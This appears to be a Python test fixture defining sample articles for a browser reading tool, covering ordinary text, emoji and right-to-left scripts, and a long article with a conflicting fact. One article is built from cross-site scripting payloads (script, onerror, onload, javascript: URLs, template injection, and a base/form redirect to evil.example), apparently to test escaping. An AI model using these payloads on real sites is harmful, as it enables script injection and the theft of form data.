"""The articles the browser asks: few, short, and each hard in its own way."""

from __future__ import annotations

from datetime import date

from corpus.articles import article_from
from corpus.types import Article

TREATY = article_from(
    "news/treaty",
    "Two states tied themselves together on Friday in a treaty that was signed at the Kremlin.\n\n"
    "The treaty lasts 20 years, and officials on both sides say that it can be renewed after that.\n\n"
    "It takes over from an agreement on which relations have rested since 2001. The pact runs for 20 years.",
    title="Treaty signed",
    source="Harbour Wire",
    url="https://news.example/2025/treaty",
    published=date(2025, 1, 17),
)
# Astral characters, a family joined by zero-width joiners, and two directions of writing before the quote.
EMOJI = article_from(
    "news/🕊 lighthouse & co?",
    "🎉🎉 The keeper 👩‍👩‍👧 wrote שלום עולם and مرحبا بالعالم on the wall 𝔄𝔅ℭ.\n\n"
    "مرحبا 🕊 The lighthouse of Varnholm was built in 1887 by the engineer Ida Krog 🗼. It still shines.",
    title="The lighthouse 🗼",
    source="מנורה",
    published=date(2024, 3, 2),
)
PAYLOADS = (
    "<script>window.hacked = 'script'</script>",
    "<img src=x onerror=\"window.hacked = 'img'\">",
    "<svg onload=\"window.hacked = 'svg'\"></svg>",
    '"><iframe srcdoc="<script>parent.hacked = \'iframe\'</script>"></iframe>',
    "<a href=\"javascript:window.hacked = 'href'\">click</a>",
    "<style>body{display:none}</style><base href=//evil.example><form action=//evil.example><button>go",
    "</textarea></title></style><math><mtext><script>window.hacked = 'math'</script>",
    "javascript:window.hacked='uri'//{{constructor.constructor('window.hacked=1')()}}${window.hacked=1}",
)
HOSTILE = article_from(
    "<img src=x onerror=hacked=1>",
    "The mayor of Quellin is Tom <b>Ashe</b>, who took office in 2019. " + "\n\n".join(PAYLOADS),
    title="<script>window.hacked = 'title'</script> The mayor of Quellin",
    source="<img src=x onerror=\"window.hacked = 'source'\">",
    published=date(2023, 5, 5),
)
# Says two things of one harbour, so that an answer has another beside it.
LONG = article_from(
    "long/harbour",
    "\n\n".join(
        f"Paragraph {number} says again that ships come and go with the tide, as ever." for number in range(300)
    )
    + "\n\nThe harbour of Sandvik has 42 berths, and every one of them is taken in summer.\n\n"
    + "\n\n".join(f"After it, paragraph {number} says nothing new." for number in range(100))
    + "\n\nIn an old survey the harbour of Sandvik has 30 berths.",
    title="A harbour at length",
    published=date(2022, 8, 9),
)
ARTICLES: tuple[Article, ...] = (TREATY, EMOJI, HOSTILE, LONG)
UPLOAD = "The bridge over the Tarn was opened on 3 May 1998 by Mayor Ada Holm. It cost 40 million crowns to build."
